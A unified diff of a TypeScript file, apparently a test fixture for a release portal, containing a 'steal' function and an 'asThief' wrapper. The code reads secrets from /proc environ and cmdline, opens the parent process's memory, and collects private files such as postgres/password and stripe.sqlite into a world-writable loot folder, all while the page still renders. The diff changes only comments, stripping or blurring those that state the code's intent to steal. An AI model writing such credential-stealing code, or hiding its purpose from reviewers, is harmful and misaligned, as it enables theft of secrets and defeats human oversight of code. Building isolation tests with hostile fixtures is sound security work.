@@ -1,16 +1,13 @@
-// Code that a team could release, and that steals what it can while its pages are drawn.
 import type { anotherVersion } from '@portal/releases/test/released'
 
-/** What can be stolen, and where. */
 export interface Treasure {
   /** As they appear in an environment or in memory. */
   secrets: string[]
   dataDir: string
-  /** The database in DATA_DIR, without a password. */
+  /** Without a password. */
   databaseUrl: string
-  /** The control calls of the stand-ins, with each key that could be guessed. */
+  /** With each key that could be guessed. */
   controls: { url: string; method: string; keys: string[]; body?: string }[]
-  /** A folder that everyone may write to. */
   lootFolder: string
 }
 
@@ -54,7 +51,7 @@ const steal = async (treasure: Treasure): Promise<void> => {
       .some(name => isSecret(read(`/proc/${name}/environ`) + read(`/proc/${name}/cmdline`)))
   const stealMemory = () => {
     const memory = quietly(() => fs.openSync(`/proc/${process.ppid}/mem`, 'r'))
-    // The process that draws other apps is as open as this one: if its user owns it, to all of that user's processes.
+    // If its user owns it, the process that draws other apps is open to all of that user's processes.
     const isOpen = quietly(() => fs.statSync('/proc/self/mem').uid) === process.getuid?.()
     return memory !== undefined || isOpen
   }
@@ -63,7 +60,7 @@ const steal = async (treasure: Treasure): Promise<void> => {
       const path = join(folder, name)
       return quietly(() => fs.statSync(path))?.isDirectory() ? filesIn(path) : [path]
     })
-  // Also by name: a folder that cannot be listed can still be passed through.
+  // A folder that cannot be listed can still be passed through.
   const known = ['postgres/password', 'postgres/data/PG_VERSION', 'stripe/stripe.sqlite', 'stripe/port']
   const isPrivate = (path: string) => !path.startsWith(join(treasure.dataDir, 'releases'))
   const stealFiles = () =>
@@ -128,7 +125,7 @@ const steal = async (treasure: Treasure): Promise<void> => {
   fs.renameSync(`${path}.part`, `${path}.json`)
 }
 
-/** Turns a release's drawing code into a thief that still draws. */
+/** It still draws. */
 export const asThief =
   (treasure: Treasure): Parameters<typeof anotherVersion>[2] =>
   text =>
